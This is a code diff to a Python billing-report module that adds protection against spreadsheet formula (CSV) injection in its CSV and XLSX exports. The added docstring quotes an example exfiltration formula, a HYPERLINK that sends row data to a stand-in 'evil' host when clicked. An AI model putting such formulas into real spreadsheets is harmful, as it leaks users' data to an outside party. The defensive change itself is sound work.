@@ -18,6 +18,15 @@ The sweep columns tell finance which figures are not the upstream's own:
   sweep_charged_usd   what the sweep had charged those corrected rows
   correction_usd      cost_usd of those rows minus sweep_charged_usd (negative: charged back)
 A corrected row stays on the day it was swept (the report of a closed month does not move).
+
+Formula injection (OWASP "CSV injection"): text in these files comes partly from tenants (model
+names, project slugs), and a spreadsheet runs a cell starting with `=`, `+`, `-`, `@`, a tab or a
+carriage return as a formula (`=HYPERLINK("https://evil/?"&C2,"x")` sends the row away when
+clicked). Every text cell that starts so is written with a leading `'` (inert_text), in the CSV and
+in the XLSX, where text cells are also always string cells, never formulas. Numbers are not text:
+they stay numbers (a negative cost stays a negative number). Every writer of these files (the
+management API's downloads, which the console links to, and the cost_report command) goes
+through to_csv / to_xlsx.
 """
 from __future__ import annotations
 
@@ -141,13 +150,41 @@ def platform_month(month: Month) -> Report:
     )
 
 
+# What makes a spreadsheet read a text cell as a formula (OWASP's list).
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert_text(value: object) -> object:
+    """`value` as a report cell: text that a spreadsheet would run as a formula gets a leading
+    single quote; anything else (numbers included, negative ones too) is unchanged."""
+    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
+        return "'" + value
+    return value
+
+
+def _inert_row(row: tuple[object, ...]) -> list[object]:
+    return [inert_text(value) for value in row]
+
+
 def to_csv(report: Report) -> bytes:
     out = io.StringIO()
     writer = csv.writer(out)
-    writer.writerow(report.columns)
-    writer.writerows(report.rows)
-    writer.writerow(report.totals)
+    writer.writerow(_inert_row(report.columns))
+    writer.writerows(_inert_row(row) for row in report.rows)
+    writer.writerow(_inert_row(report.totals))
     return out.getvalue().encode()
+
+
+def _xlsx_cell_value(value: object) -> object:
+    """A value openpyxl stores as itself: dollars as numbers, text made inert and stripped of the
+    control characters XLSX cannot hold (openpyxl would refuse the whole file)."""
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    if isinstance(value, Decimal):
+        return float(value)
+    if isinstance(value, str):
+        return ILLEGAL_CHARACTERS_RE.sub("\ufffd", str(inert_text(value)))
+    return value
 
 
 def to_xlsx(report: Report) -> bytes:
@@ -157,17 +194,17 @@ def to_xlsx(report: Report) -> bytes:
     book = Workbook()
     sheet = book.active
     sheet.title = report.title[:31]
-    sheet.append(list(report.columns))
-    for cell in sheet[1]:
-        cell.font = Font(bold=True)
-    for row in [*report.rows, report.totals]:
-        # Decimals (dollars) go in as numbers with six places shown; tokens as integers.
-        sheet.append([float(v) if isinstance(v, Decimal) else v for v in row])
+    bold = Font(bold=True)
+    last = len(report.rows) + 2
+    for row_number, row in enumerate([report.columns, *report.rows, report.totals], start=1):
         for column, value in enumerate(row, start=1):
-            if isinstance(value, Decimal):
-                sheet.cell(row=sheet.max_row, column=column).number_format = "0.000000"
-    for cell in sheet[sheet.max_row]:
-        cell.font = Font(bold=True)
+            cell = sheet.cell(row=row_number, column=column, value=_xlsx_cell_value(value))
+            if isinstance(value, str):
+                cell.data_type = "s"  # text is a string cell, never a formula
+            elif isinstance(value, Decimal):
+                cell.number_format = "0.000000"  # dollars with six places shown
+            if row_number in (1, last):
+                cell.font = bold
     out = io.BytesIO()
     book.save(out)
     return out.getvalue()
